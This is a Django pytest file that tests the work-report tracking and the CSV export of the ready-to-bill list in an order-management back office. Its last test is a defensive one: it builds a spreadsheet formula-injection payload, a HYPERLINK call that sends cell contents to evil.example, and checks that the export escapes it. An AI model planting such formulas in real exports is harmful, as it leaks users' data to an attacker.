"""Reported to the client, and the ready-to-bill list accounting works from (with its CSV export)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from organisatrice.orders.models import Order, OrderEvent, WorkReport
from organisatrice.orders.services import work_reports_mark_reported
from tests.emails.outgoing import outgoing_email_create
from tests.factories import OrderFactory, WorkReportFactory, WorkReportLineFactory

pytestmark = pytest.mark.django_db


def _sent_at(day: int) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime(2026, 11, day, 10, 0))


def test_a_report_is_marked_by_the_first_email_that_carried_it():
    report = WorkReportFactory()
    first, second = (outgoing_email_create(order=report.order, enqueue=False) for _ in range(2))

    assert work_reports_mark_reported(report_ids=[report.pk], email_id=first.pk, sent_at=_sent_at(20)) == [report.pk]
    assert work_reports_mark_reported(report_ids=[report.pk], email_id=second.pk, sent_at=_sent_at(21)) == []

    report.refresh_from_db()
    assert (report.reported_email_id, report.reported_at) == (first.pk, _sent_at(20))
    assert Order.objects.get(pk=report.order_id).reported_at == _sent_at(20)
    [event] = OrderEvent.objects.filter(order_id=report.order_id, kind=OrderEvent.Kind.REPORTED)
    assert (event.email_id, event.text) == (first.pk, "Rapport n° 1 du 20.11.2026 · 0 h")


def test_the_order_carries_the_date_of_its_latest_reported_work():
    order = OrderFactory()
    earlier, later = WorkReportFactory(order=order), WorkReportFactory(order=order)
    email = outgoing_email_create(order=order, enqueue=False)

    work_reports_mark_reported(report_ids=[later.pk], email_id=email.pk, sent_at=_sent_at(25))
    work_reports_mark_reported(report_ids=[earlier.pk], email_id=email.pk, sent_at=_sent_at(22))

    order.refresh_from_db()
    assert order.reported_at == _sent_at(25)


@pytest.fixture
def backoffice(client):
    client.force_login(get_user_model().objects.create_superuser("compta", "compta@dupont-sa.ch", "secret"))
    return client


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_the_csv_export_has_a_line_per_reported_report_with_its_hours_and_email(backoffice):
    order = OrderFactory(title="Chauffage, 2e étage")
    reported = WorkReportFactory(order=order)
    WorkReportLineFactory(report=reported, hours=Decimal("2.50"))
    WorkReportLineFactory(report=reported, hours=Decimal("1.25"))
    never_sent = WorkReportFactory(order=order)
    WorkReportLineFactory(report=never_sent, hours=Decimal("8.00"))
    email = outgoing_email_create(order=order, subject="Rapport de travail", enqueue=False)
    work_reports_mark_reported(report_ids=[reported.pk], email_id=email.pk, sent_at=_sent_at(20))
    OrderFactory()  # nothing reported: not on the list

    response = backoffice.get(reverse("admin:orders_orderreadytobill_export"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *lines = _rows(response)
    assert header[0] == "commande" and header[8] == "email_concerne" and header[-1] == "email_remise"
    assert lines == [
        [
            order.number,
            "Chauffage, 2e étage",
            order.client.name,
            str(order.responsible),
            reported.date.isoformat(),
            "3.75",
            _sent_at(20).astimezone(datetime.UTC).isoformat(),
            email.message_id,
            "Rapport de travail",
            "",  # delivered, as far as anyone knows (see tests/emails/delivery)
        ]
    ]


def test_the_csv_export_follows_the_lists_filters(backoffice):
    emails = {}
    for day in (3, 20):
        report = WorkReportFactory(order=OrderFactory())
        emails[day] = outgoing_email_create(order=report.order, enqueue=False)
        work_reports_mark_reported(report_ids=[report.pk], email_id=emails[day].pk, sent_at=_sent_at(day))

    response = backoffice.get(
        reverse("admin:orders_orderreadytobill_export"),
        {"reported_at__gte": "2026-11-10 00:00:00+01:00", "reported_at__lt": "2026-12-01 00:00:00+01:00"},
    )

    _header, *lines = _rows(response)
    assert [line[7] for line in lines] == [emails[20].message_id]
    assert WorkReport.objects.filter(reported_at__isnull=False).count() == 2


def test_the_ready_to_bill_list_shows_only_reported_orders(backoffice):
    report = WorkReportFactory(order=OrderFactory(title="Facturable"))
    email = outgoing_email_create(order=report.order, enqueue=False)
    work_reports_mark_reported(report_ids=[report.pk], email_id=email.pk, sent_at=_sent_at(20))
    OrderFactory(title="Pas encore")

    page = backoffice.get(reverse("admin:orders_orderreadytobill_changelist")).content.decode()

    assert "Facturable" in page and "Pas encore" not in page
    assert reverse("admin:orders_orderreadytobill_export") in page


def test_an_invoiced_order_leaves_the_ready_to_bill_list_and_its_export(backoffice):
    titles = {}
    for status in (Order.Status.COMPLETED, Order.Status.INVOICED):
        report = WorkReportFactory(order=OrderFactory(title=f"Commande {status}", status=status))
        email = outgoing_email_create(order=report.order, enqueue=False)
        work_reports_mark_reported(report_ids=[report.pk], email_id=email.pk, sent_at=_sent_at(20))
        titles[status] = report.order.title

    page = backoffice.get(reverse("admin:orders_orderreadytobill_changelist")).content.decode()
    _header, *lines = _rows(backoffice.get(reverse("admin:orders_orderreadytobill_export")))

    assert titles[Order.Status.COMPLETED] in page and titles[Order.Status.INVOICED] not in page
    assert [line[1] for line in lines] == [titles[Order.Status.COMPLETED]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(backoffice, start):
    attack = f'{start}HYPERLINK("http://evil.example/?"&A2,"Rapport")'
    report = WorkReportFactory(order=OrderFactory(title=attack))
    WorkReportLineFactory(report=report, hours=Decimal("-1.50"))
    email = outgoing_email_create(order=report.order, subject=attack.replace("\r", ""), enqueue=False)
    work_reports_mark_reported(report_ids=[report.pk], email_id=email.pk, sent_at=_sent_at(20))

    _header, line = _rows(backoffice.get(reverse("admin:orders_orderreadytobill_export")))

    assert line[1] == "'" + attack
    assert line[8] == ("'" + attack if start != "\r" else attack.replace("\r", ""))
    # Numbers stay numbers, negative ones included.
    assert Decimal(line[5]) == Decimal("-1.50")
